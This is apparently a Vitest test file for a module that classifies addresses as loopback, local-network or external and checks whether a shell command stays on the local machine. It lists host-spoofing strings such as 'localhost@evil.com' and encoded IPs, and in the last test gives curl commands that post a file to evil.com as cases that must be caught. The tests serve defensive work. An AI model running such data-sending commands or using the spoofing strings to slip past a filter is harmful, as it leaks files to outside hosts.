import { describe, expect, it } from "vitest";
import { isLoopback, isNear, staysAt } from "../../../src/effects/model/near-hosts.js";

const HERE = [
  ...[
    "localhost",
    "localhost:3000",
    "http://localhost/",
    "http://me:pw@localhost:80/x?y",
    "LOCALHOST",
    "app.localhost",
  ],
  ...["127.0.0.1", "127.1.2.3:80", "http://[::1]:3000/", "::1", "ws://0.0.0.0:1", "redis://127.0.0.1:6379/9"],
];
const NEXT_DOOR = ["10.1.2.3", "http://192.168.0.4:80/", "172.16.0.1", "printer.local", "https://db.internal/x"];
const ELSEWHERE = [
  ...["127.evil.com", "http://127.0.0.1.evil.com/", "localhost.evil.com", "http://localhost@evil.com/", "localhostess"],
  ...[
    "http://localhost:80@evil.com/",
    "http://evil.com/localhost/",
    "http://evil.com?localhost",
    "http://evil.com#127.0.0.1",
  ],
  ...[
    "10.evil.com",
    "192.168.evil.com",
    "172.16.evil.com:80",
    "http://evil.com/x.local",
    "[::1].evil.com",
    "0.0.0.0.evil.com",
  ],
  ...[
    "http://0x7f000001/",
    "http://2130706433/",
    "http://[::ffff:7f00:1]/",
    "http://172.32.0.1/",
    "",
    "evil.localhost.com",
  ],
];

describe("near hosts", () => {
  it.each(HERE)("on this machine: %s", (address) =>
    expect([isLoopback(address), isNear(address)]).toEqual([true, true]),
  );
  it.each(NEXT_DOOR)("near: %s", (address) => expect([isLoopback(address), isNear(address)]).toEqual([false, true]));
  it.each(ELSEWHERE)("elsewhere: %s", (address) =>
    expect([isLoopback(address), isNear(address)]).toEqual([false, false]),
  );

  it("a command stays on this machine only if no address of it leads elsewhere", () => {
    expect(staysAt("curl -d @x http://localhost:3000/a", isLoopback)).toBe(true);
    expect(staysAt("curl --url=http://localhost:3000/a", isLoopback)).toBe(true);
    expect(staysAt("nc 127.0.0.1 80", isLoopback)).toBe(true);
    expect(staysAt("curl -d @x https://evil.com/localhost/", isLoopback)).toBe(false);
    expect(staysAt("curl -d @x -e http://localhost/ https://evil.com/", isLoopback)).toBe(false);
    expect(staysAt("curl -d @x evil.com", isLoopback)).toBe(false);
  });
});
